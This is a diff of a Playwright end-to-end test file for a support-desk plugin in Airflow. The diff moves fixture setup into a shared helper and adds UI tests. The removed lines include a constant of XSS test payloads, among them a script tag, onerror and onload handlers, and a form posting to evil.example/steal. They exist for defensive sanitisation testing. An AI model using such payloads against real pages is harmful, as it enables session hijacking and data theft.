@@ -3,28 +3,17 @@
 Screenshots of every page are left in `.artefacts/`.
 """
 
-import json
-import sys
 from collections.abc import Callable, Iterator
-from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from urllib.parse import urlsplit
 
-import httpx
 import pytest
-import yaml
 from chromium import assert_everybody_can_read_it, launched, needs_chromium, screenshot
-from landing import ORDER, land_some_mail, land_some_orders, let_pass, mail, named, order
+from desk import TICKET, UNDECIDED, USERS, desk, happened, passwords, token
+from landing import ORDER
 from playwright.sync_api import Browser, Page, Request, expect
-from sqlalchemy import text
 
-from amazon_support import settings as all_settings
-from amazon_support import tickets
 from amazon_support.local import LocalStack
-from amazon_support.outputs.worklist import write_worklists
-from amazon_support.tickets.compliance import write_compliance
-from amazon_support.warehouse import connect
-from amazon_support.warehouse.land import publish_mail, publish_orders
 
 pytestmark = [
     pytest.mark.slow,
@@ -32,92 +21,31 @@ pytestmark = [
     needs_chromium,
 ]
 
-NOW = datetime.now(UTC).replace(minute=0, second=0, microsecond=0)
-TICKET = f"DE:order:{ORDER}"
-UNDECIDED = f"-:mail:{named('odd')[:16]}"
-HOSTILE = """<script>window.hacked = 1</script><img src=x onerror="window.hacked = 1">
-<form action="https://evil.example/steal"><input name=q></form><meta http-equiv="refresh" content="0;url=https://evil.example">
-<style>body { display: none }</style><svg onload="window.hacked = 1"><image href="https://evil.example/pixel.png"/></svg>"""
-AGENTS = [
-    {"name": "Ana Lima", "email": "ana@example.com", "marketplaces": ["DE"]},
-    {"name": "Bo Berg", "email": "bo@example.com", "marketplaces": ["US"]},
-]
-USERS = {
-    "ana": {"role": "agent", "agent": "Ana Lima"},
-    "bo": {"role": "agent", "agent": "Bo Berg"},
-    "lea": {"role": "lead"},
-    "vic": {"role": "viewer"},
-}
+TREND = "/health/trend?account=main&marketplace=DE&metric=late_shipment_rate"
 PAGES = {
     "worklist": "/worklist",
     "tickets": "/tickets",
     "ticket": f"/tickets/main/{TICKET}",
     "undecided": f"/tickets/main/{UNDECIDED}",
+    "mail": "/mail",
+    "cases": "/cases",
     "search": "/search?q=nothing",
     "levels": "/levels?days=7",
     "behind a figure": "/levels/tickets?days=7",
     "feedback": "/feedback",
     "health": "/health",
+    "trend": TREND,
+    "error": "/tickets/main/nothing-of-that-name",
     "pipeline": "/pipeline",
     "settings": "/settings",
 }
 
 
-def ago(**span: float) -> datetime:
-    return NOW - timedelta(**span)
-
-
 @pytest.fixture(scope="module")
 def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LocalStack]:
-    """Airflow's api-server beside a warehouse with some tickets; no job runs."""
-    folder = tmp_path_factory.mktemp("desk")
-    (folder / "agents.yaml").write_text(yaml.safe_dump({"agents": AGENTS}))
-    (folder / "access.yaml").write_text(yaml.safe_dump({"access": {"users": USERS}}))
-    stack = LocalStack(folder / "stack", port=0)
-    try:
-        stack.prepare(print)
-        stack.add_environment(
-            {
-                "AMAZON_SUPPORT_SETTINGS": str(folder),
-                "AIRFLOW__CORE__SIMPLE_AUTH_MANAGER_USERS": ",".join(f"{name}:viewer" for name in USERS),
-            }
-        )
-        with pytest.MonkeyPatch.context() as patch, connect(stack.warehouse_url) as connection:
-            patch.setenv("AMAZON_SUPPORT_SETTINGS", str(folder))
-            _fill(connection)
-        stack.spawn("api-server", [sys.executable, "-m", "airflow", "api-server"], keep=True)
-        stack.wait(lambda: _answers(stack), "Airflow's api-server", 240)
+    users = ",".join(f"{name}:viewer" for name in USERS)
+    with desk(tmp_path_factory.mktemp("desk"), {"AIRFLOW__CORE__SIMPLE_AUTH_MANAGER_USERS": users}) as stack:
         yield stack
-    finally:
-        stack.stop()
-
-
-def _fill(connection: object) -> None:
-    current = all_settings.load()
-    seen = {"order_ids": [ORDER], "buyer_alias": "abc123@marketplace.amazon.de", "buyer_name": "Mia Muster"}
-    land_some_orders(connection, order(lastUpdatedTime=f"{ago(hours=2):%Y-%m-%dT%H:%M:%SZ}"))
-    land_some_mail(
-        connection,
-        mail("hostile", at=ago(hours=21), text=HOSTILE, subject="<b>Where?</b>", **seen),
-        mail("odd", "unknown", at=ago(hours=5), marketplace=None, text="Something nobody understands"),
-        mail("bo's", at=ago(hours=3), marketplace="US", case_id="77"),
-        mail("old", at=ago(days=3), case_id="12"),
-        mail("old answer", "reply_copy", at=ago(days=2, hours=20), case_id="12", order_ids=[]),
-        mail("late", at=ago(days=4), case_id="13"),
-    )
-    let_pass(connection)
-    publish_orders(connection, current)
-    publish_mail(connection, current)
-    tickets.fold(connection, current.policy, tickets.Promises.of(current))
-    write_worklists(connection, current, as_of=NOW)
-    write_compliance(connection, current, as_of=NOW)
-
-
-def _answers(stack: LocalStack) -> bool:
-    try:
-        return httpx.get(f"{stack.airflow_url}/api/v2/version", timeout=5).is_success
-    except httpx.HTTPError:
-        return False
 
 
 @pytest.fixture(scope="module")
@@ -137,7 +65,8 @@ def visit(stack: LocalStack, chromium: Browser) -> Iterator[Visit]:
     def page(user: str, path: str, **options: object) -> Page:
         context = chromium.new_context(**options)
         contexts.append(context)
-        context.add_cookies([{"name": "_token", "value": _token(stack, user), "url": stack.airflow_url}])
+        signed_in = token(stack, user, passwords(stack)[user])
+        context.add_cookies([{"name": "_token", "value": signed_in, "url": stack.airflow_url}])
         opened = context.new_page()
         opened.goto(f"{stack.airflow_url}/support{path}")
         return opened
@@ -145,23 +74,6 @@ def visit(stack: LocalStack, chromium: Browser) -> Iterator[Visit]:
     yield page
     for context in contexts:
         context.close()
-
-
-def _token(stack: LocalStack, user: str) -> str:
-    login = {"username": user, "password": _passwords(stack)[user]}
-    answer = httpx.post(f"{stack.airflow_url}/auth/token", json=login, timeout=60)
-    return str(answer.raise_for_status().json()["access_token"])
-
-
-def _passwords(stack: LocalStack) -> dict[str, str]:
-    return json.loads((stack.folder / "airflow" / "passwords.json").read_text())
-
-
-def happened(stack: LocalStack) -> list[tuple[str, str]]:
-    """What people did so far: (kind, actor)."""
-    with connect(stack.warehouse_url) as connection:
-        query = "select kind, actor from core.ticket_event where source = 'page' order by event_id"
-        return [tuple(row) for row in connection.execute(text(query))]
 
 
 # ---------- getting in
@@ -172,7 +84,7 @@ def test_whoever_is_not_signed_in_is_led_to_the_sign_in_and_back(stack: LocalSta
     page.goto(f"{stack.airflow_url}/support/worklist")
     assert "/auth/login" in page.url
     page.get_by_label("Username").fill("ana")
-    page.get_by_label("Password").fill(_passwords(stack)["ana"])
+    page.get_by_label("Password").fill(passwords(stack)["ana"])
     page.get_by_role("button", name="Sign in").click()
     expect(page.get_by_role("heading", name="Worklist")).to_be_visible()
     assert page.url.endswith("/support/worklist")
@@ -233,6 +145,70 @@ def test_what_cannot_be_done_says_why(visit: Visit) -> None:
     page.get_by_label("Order").fill("12")
     page.get_by_role("button", name="Attach").click()
     expect(page.get_by_text("12 is no order id")).to_be_visible()
+
+
+def test_a_view_of_the_worklist_is_kept_and_found_again(visit: Visit) -> None:
+    page = visit("lea", "/worklist")
+    page.get_by_label("Marketplace").select_option("DE")
+    page.get_by_role("button", name="Show", exact=True).click()
+    page.get_by_text("Keep this view").click()
+    page.get_by_label("Name").fill("Germany")
+    page.get_by_role("button", name="Keep what is shown").click()
+    page.get_by_role("link", name="Show all").click()
+    page.get_by_role("link", name="Germany").click()
+    assert "marketplace=DE" in page.url
+    page.get_by_role("link", name="Time left").first.click()
+    assert "sort=-due" in page.url
+
+
+def test_enter_in_a_field_puts_on_hold_and_does_not_solve(visit: Visit, stack: LocalStack) -> None:
+    page = visit("ana", f"/tickets/main/{TICKET}")
+    page.get_by_text("Assign, hold, change type").click()
+    page.get_by_label("Wait for").fill("carrier")
+    page.keyboard.press("Enter")
+    expect(page.get_by_role("status")).to_have_text("Done: hold, carrier.")
+    expect(page.locator("main .status").first).to_have_text("on hold")
+    assert happened(stack)[-1] == ("hold", "ana")
+
+
+def test_what_is_nearly_late_is_seen_to_from_the_ticket(visit: Visit) -> None:
+    page = visit("ana", f"/tickets/main/{TICKET}")
+    page.get_by_role("button", name="I see to it").click()
+    expect(page.get_by_text("Ana Lima sees to it")).to_be_visible()
+    expect(page.get_by_role("button", name="I see to it")).to_have_count(0)
+
+
+def test_a_mail_is_decided_on_the_list_and_a_rule_made_of_it(visit: Visit) -> None:
+    page = visit("lea", "/mail")
+    letter = page.get_by_role("article", name="Rates")
+    letter.get_by_text("Make a rule of it").click()
+    expect(letter.get_by_label("Sender")).to_have_value("news@carrier.example")
+    letter.get_by_label("It is").last.select_option("amazon_information")
+    letter.get_by_role("button", name="Decide so, now and from now on").click()
+    expect(page.get_by_role("article", name="Rates")).to_have_count(0)
+    expect(page.get_by_role("cell", name="news@carrier.example", exact=True)).to_be_visible()
+
+
+def test_a_plan_of_action_stands_beside_its_notification(visit: Visit) -> None:
+    page = visit("lea", "/health")
+    page.get_by_text("Write a plan of action").click()
+    page.get_by_label("Plan of action").fill("Send the test report today")
+    page.get_by_role("button", name="Add").click()
+    expect(page.locator("blockquote").get_by_text("Send the test report today")).to_be_visible()
+
+
+def test_times_say_exactly_when_and_in_which_zone(visit: Visit) -> None:
+    page = visit("ana", f"/tickets/main/{TICKET}")
+    titles = page.locator("main time").evaluate_all("all => all.map(time => time.title)")
+    assert titles
+    assert all(title.endswith(" UTC") for title in titles)
+
+
+def test_the_pages_stand_within_airflows_own(visit: Visit, stack: LocalStack) -> None:
+    page = visit("ana", "/worklist")
+    page.goto(f"{stack.airflow_url}/plugin/support")
+    within = page.frame_locator("iframe")
+    expect(within.get_by_role("heading", name="Worklist")).to_be_visible(timeout=60_000)
 
 
 # ---------- keeping harm out
